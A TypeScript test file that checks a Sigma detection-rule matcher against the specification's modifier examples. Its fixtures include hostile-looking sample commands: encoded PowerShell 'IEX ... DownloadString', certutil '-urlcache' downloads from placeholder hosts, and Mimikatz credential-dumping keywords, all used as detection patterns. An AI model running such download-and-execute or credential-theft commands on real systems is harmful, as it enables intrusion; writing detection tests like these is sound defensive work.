// Sigma's value modifiers and string rules, each against the examples of the Sigma specification
// (sigma-specification: Sigma_specification.md "Modifiers" and appendix "Modifiers"), compiled as
// Magpie compiles a rule taken from SigmaHQ.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { compileCondition, compileSelection, RuleSyntaxError, type Rec } from '../lib/triage/matcher.ts';

const sel = (s: unknown, placeholders?: Record<string, string[]>) => compileSelection('selection', s, { sigma: true, placeholders });
const hit = (s: unknown, r: Rec, placeholders?: Record<string, string[]>) => sel(s, placeholders)(r);

test('plain values: case-insensitive equality with * and ? wildcards; \\* \\? \\\\ escaped as pySigma reads them', () => {
  assert.ok(hit({ Image: 'C:\\Windows\\System32\\cmd.exe' }, { Image: 'c:\\windows\\system32\\CMD.EXE' }));
  assert.ok(hit({ Image: '*\\cmd.exe' }, { Image: 'C:\\Windows\\System32\\cmd.exe' }));
  assert.ok(hit({ Image: 'C:\\Windows\\Sys?em32\\cmd.exe' }, { Image: 'C:\\Windows\\System32\\cmd.exe' }));
  assert.not.ok(hit({ Image: 'cmd.exe' }, { Image: 'C:\\Windows\\System32\\cmd.exe' }));
  // \* is a star, \\ before a wildcard a backslash; a lone backslash stays one.
  assert.ok(hit({ CommandLine: 'ping 1\\*' }, { CommandLine: 'ping 1*' }));
  assert.not.ok(hit({ CommandLine: 'ping 1\\*' }, { CommandLine: 'ping 10' }));
  assert.ok(hit({ Path: 'C:\\\\*' }, { Path: 'C:\\Temp\\x' }));
  // null: the field is absent or empty of value; '' is the empty string.
  assert.ok(hit({ ParentImage: null }, { Image: 'x' }));
  assert.not.ok(hit({ ParentImage: null }, { ParentImage: 'x' }));
  assert.ok(hit({ ParentImage: '' }, { ParentImage: '' }));
  // A list of values is OR; numbers match their text.
  assert.ok(hit({ EventID: [4688, 1] }, { EventID: '1' }));
});

test('contains, startswith, endswith (with wildcards inside), all, cased', () => {
  assert.ok(hit({ 'CommandLine|contains': 'Invoke-Expression' }, { CommandLine: 'powershell -c invoke-expression $x' }));
  assert.ok(hit({ 'CommandLine|contains': 'http*://' }, { CommandLine: 'x https://evil.test' }));
  assert.ok(hit({ 'Image|startswith': 'C:\\Users\\' }, { Image: 'c:\\users\\a\\b.exe' }));
  assert.ok(hit({ 'Image|endswith': '\\mshta.exe' }, { Image: 'C:\\Windows\\System32\\mshta.exe' }));
  assert.ok(hit({ 'CommandLine|contains|all': ['-nop', '-enc'] }, { CommandLine: 'powershell -nop -w hidden -enc AAA' }));
  assert.not.ok(hit({ 'CommandLine|contains|all': ['-nop', '-enc'] }, { CommandLine: 'powershell -nop' }));
  assert.ok(hit({ 'CommandLine|contains|cased': 'Mimikatz' }, { CommandLine: 'run Mimikatz' }));
  assert.not.ok(hit({ 'CommandLine|contains|cased': 'Mimikatz' }, { CommandLine: 'run mimikatz' }));
});

test('base64 and base64offset (the specification\'s http:// example), with utf16le/wide and utf16be', () => {
  assert.ok(hit({ 'CommandLine|base64': 'test' }, { CommandLine: 'dGVzdA==' }));
  // base64offset|contains: 'http://' is aHR0cDovL, h0dHA6Ly, odHRwOi8v.
  for (const enc of ['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v']) assert.ok(hit({ 'CommandLine|base64offset|contains': 'http://' }, { CommandLine: `x ${enc} y` }), enc);
  for (const prefix of ['', 'a', 'ab']) {
    const b64 = Buffer.from(`${prefix}http://evil`).toString('base64');
    assert.ok(hit({ 'CommandLine|base64offset|contains': 'http://' }, { CommandLine: `powershell -e ${b64}` }), `offset ${prefix.length}`);
  }
  // PowerShell's -EncodedCommand is UTF-16LE: wide|base64offset finds a word inside it.
  const enc = Buffer.from('IEX (New-Object Net.WebClient).DownloadString', 'utf16le').toString('base64');
  assert.ok(hit({ 'CommandLine|wide|base64offset|contains': 'DownloadString' }, { CommandLine: `powershell -enc ${enc}` }));
  assert.ok(hit({ 'CommandLine|utf16le|base64offset|contains': 'DownloadString' }, { CommandLine: `powershell -enc ${enc}` }));
  assert.not.ok(hit({ 'CommandLine|base64offset|contains': 'DownloadString' }, { CommandLine: `powershell -enc ${enc}` }), 'the UTF-8 encoding is not in a UTF-16 command');
  const be = Buffer.from('ping', 'utf16le').swap16().toString('base64');
  assert.ok(hit({ 'Data|utf16be|base64': 'ping' }, { Data: be }));
});

test('windash: -, /, en dash, em dash and horizontal bar for each option dash', () => {
  for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(hit({ 'CommandLine|windash|contains': ' -urlcache ' }, { CommandLine: `certutil ${d}urlcache -f http://x` }), JSON.stringify(d));
  assert.not.ok(hit({ 'CommandLine|windash|contains': ' -urlcache ' }, { CommandLine: 'certutil urlcache' }));
});

test('re: case-sensitive unless |i; |m and |s; a leading (?i) is the i flag; JavaScript-incompatible syntax is a rule error', () => {
  assert.ok(hit({ 'CommandLine|re': 'Invoke-[A-Z]' }, { CommandLine: 'Invoke-Mimikatz' }));
  assert.not.ok(hit({ 'CommandLine|re': 'invoke-mimikatz' }, { CommandLine: 'Invoke-Mimikatz' }));
  assert.ok(hit({ 'CommandLine|re|i': 'invoke-mimikatz' }, { CommandLine: 'Invoke-Mimikatz' }));
  assert.ok(hit({ 'CommandLine|re': '(?i)invoke-mimikatz' }, { CommandLine: 'Invoke-Mimikatz' }));
  assert.ok(hit({ 'Data|re|m': '^second$' }, { Data: 'first\nsecond' }));
  assert.not.ok(hit({ 'Data|re': '^second$' }, { Data: 'first\nsecond' }));
  assert.ok(hit({ 'Data|re|s': 'a.b' }, { Data: 'a\nb' }));
  assert.throws(() => sel({ 'Data|re': '(?<=a' }), (e: unknown) => e instanceof RuleSyntaxError && /invalid regular expression .*as JavaScript reads it/.test((e as Error).message));
});

test('cidr, exists, gt/gte/lt/lte', () => {
  assert.ok(hit({ 'DestinationIp|cidr': ['10.0.0.0/8', '192.168.0.0/16'] }, { DestinationIp: '192.168.1.20' }));
  assert.not.ok(hit({ 'DestinationIp|cidr': '10.0.0.0/8' }, { DestinationIp: '11.0.0.1' }));
  assert.ok(hit({ 'DestinationIp|cidr': 'fe80::/10' }, { DestinationIp: 'fe80::1' }));
  assert.ok(hit({ 'CommandLine|exists': true }, { CommandLine: '' }));
  assert.ok(hit({ 'CommandLine|exists': false }, { Image: 'x' }));
  assert.ok(hit({ 'Size|gt': 100 }, { Size: '101' }));
  assert.not.ok(hit({ 'Size|gte': 102 }, { Size: 101 }));
  assert.ok(hit({ 'Size|lt': 5 }, { Size: 4 }) && hit({ 'Size|lte': 4 }, { Size: 4 }));
});

test('expand: %placeholders% from the pipeline\'s placeholders; an undefined one is a rule error', () => {
  const ph = { Admins_Workstations: ['WKS-ADM-1', 'WKS-ADM-2'] };
  assert.ok(hit({ 'Workstation|expand': '%Admins_Workstations%' }, { Workstation: 'wks-adm-2' }, ph));
  assert.not.ok(hit({ 'Workstation|expand': '%Admins_Workstations%' }, { Workstation: 'WKS-9' }, ph));
  assert.throws(() => sel({ 'Workstation|expand': '%nope%' }, ph), /placeholder %nope%/);
});

test('fieldref: one field compared with another (equal, or with contains/startswith/endswith)', () => {
  assert.ok(hit({ 'TargetUserName|fieldref': 'SubjectUserName' }, { TargetUserName: 'Bob', SubjectUserName: 'bob' }));
  assert.not.ok(hit({ 'TargetUserName|fieldref': 'SubjectUserName' }, { TargetUserName: 'Bob', SubjectUserName: 'Alice' }));
  assert.ok(hit({ 'CommandLine|fieldref|contains': 'Image' }, { CommandLine: 'C:\\x\\a.exe -run', Image: 'c:\\x\\a.exe' }));
});

test('keywords: a list of strings searches every string of the record, event data included', () => {
  const kw = sel(['mimikatz', 'sekurlsa::*']);
  assert.ok(kw({ data: { ScriptBlockText: 'Invoke-Mimikatz -DumpCreds' } }));
  assert.ok(kw({ CommandLine: 'x sekurlsa::logonpasswords' }));
  assert.not.ok(kw({ CommandLine: 'notepad' }));
});

test('conditions: 1 of / all of with patterns and them, not, parentheses', () => {
  const sels = new Map([
    ['selection_img', sel({ 'Image|endswith': '\\certutil.exe' })],
    ['selection_cli', sel({ 'CommandLine|contains': ['urlcache', 'verifyctl'] })],
    ['filter_main', sel({ 'ParentImage|endswith': '\\ccmexec.exe' })],
  ]);
  const c = compileCondition('all of selection_* and not 1 of filter_*', sels);
  assert.ok(c({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x a' }));
  assert.not.ok(c({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache', ParentImage: 'C:\\x\\CCMExec.exe' }));
  assert.not.ok(c({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -dump' }));
  assert.ok(compileCondition('1 of them', sels)({ CommandLine: 'verifyctl' }));
});

test.run();
